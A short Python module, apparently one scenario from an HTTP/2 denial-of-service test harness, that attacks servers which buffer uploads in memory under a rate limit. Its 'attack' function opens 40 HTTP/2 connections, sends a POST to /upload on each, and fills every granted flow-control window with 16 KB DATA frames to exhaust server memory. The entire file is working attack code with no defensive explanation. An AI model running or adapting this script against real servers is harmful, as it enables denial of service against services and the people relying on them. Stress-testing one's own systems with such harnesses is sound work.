"""Uploads that wait for `--max-rate` in memory: 40 connections of HTTP/2 fill the windows that they are given."""

import asyncio

from wire import http2
from wire.http2 import DATA, frame
from wire.windows import Windows

PIECE = 16384


async def attack(target):
    async def each(number):
        async with http2.http2(target, target.source(number % 2), reads=False) as it:
            if it is None:
                return
            windows = Windows(1)
            it.task = asyncio.ensure_future(windows.follow(it))
            await it.send(http2.ask(1, b"POST", b"/upload"))
            while target.goes_on():
                if windows.room() >= PIECE:
                    windows.take(PIECE)
                    await it.send(frame(DATA, 0, 1, bytes(PIECE)))
                else:
                    target.in_place()
                    await it.send(b"")
                    await asyncio.sleep(0.05)

    await target.once(40, each)
